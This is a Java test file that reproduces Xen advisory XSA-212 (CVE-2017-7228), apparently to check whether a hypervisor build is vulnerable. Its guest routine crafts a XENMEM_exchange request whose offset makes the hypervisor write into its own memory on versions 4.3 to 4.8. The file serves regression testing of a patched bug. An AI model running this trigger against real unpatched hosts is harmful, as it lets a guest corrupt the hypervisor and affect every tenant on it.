package io.github.paravane.testkit.advisory.hypercall;

import static io.github.paravane.testkit.asm.Gpr.RAX;
import static io.github.paravane.testkit.asm.Gpr.RDX;
import static io.github.paravane.testkit.asm.Memory.ptr;
import static io.github.paravane.testkit.asm.Memory.word;

import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.GuestRuntime;
import io.github.paravane.testkit.runtime.Hypercalls;

/** XSA-212: xENMEM_exchange starts anywhere. */
final class ExchangeOffset {

    private static final int EXCHANGE = 11;
    private static final long HYPERVISOR = 0xFFFF_82D0_8000_0000L;

    private ExchangeOffset() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-212", Layer.HYPERCALL, "XENMEM_exchange starts anywhere")
                .names("XSA-212", "CVE-2017-7228", "938fd2586e")
                .mechanism("Only the beginnings of the lists are checked. The field that tells how many frames are "
                        + "exchanged already lets the first access be anywhere behind them.")
                .construction("XENMEM_exchange with lists at addresses of the guest and a start offset that leads the "
                        + "output into the hypervisor.")
                .telling("The hypervisor overwrites itself, or EFAULT.")
                .affected("4.3 to 4.8")
                .repaired("4.9 (938fd2586e)")
                .provenance("XSA-212; Xen commit 938fd2586e; XTF test xsa-212")
                .build();
        return new KnownBug(
                advisory, AbiProfiles.XEN_4_8, AbiProfiles.XEN_4_9, GuestTrial.of(BugGuest.elf(ExchangeOffset::guest)));
    }

    private static void guest(BugGuest guest) {
        Label request = guest.label();
        Label given = guest.label();
        Label spare = guest.runtime().page("spare");
        guest.runtime()
                .data(() ->
                        guest.asm().align(8).bind(request).zeros(72).bind(given).zeros(8));
        guest.runtime().machineFrame(spare);
        guest.asm().mov(ptr(given), RAX);
        guest.runtime().call(Hypercalls.UPDATE_VA_MAPPING, spare, 0, 2);

        // the first access is at the address in the hypervisor: so many times 8 behind the lists
        guest.asm().movabs(RDX, HYPERVISOR).lea(RAX, ptr(given)).sub(RAX, RDX).mov(ptr(request), RAX);
        guest.asm().movabs(RDX, HYPERVISOR >>> 3).mov(ptr(request, 64), RDX).inc(RDX);
        guest.asm().mov(ptr(request, 8), RDX).mov(ptr(request, 40), RDX);
        guest.asm().mov(word(ptr(request, 24)), GuestRuntime.DOMID_SELF);
        guest.asm().mov(word(ptr(request, 56)), GuestRuntime.DOMID_SELF);
        guest.runtime().call(Hypercalls.MEMORY_OP, EXCHANGE, request);
        guest.evidence("result", RAX);
        guest.judge(RAX, 0, "the exchange was done", -14, "EFAULT");
    }
}
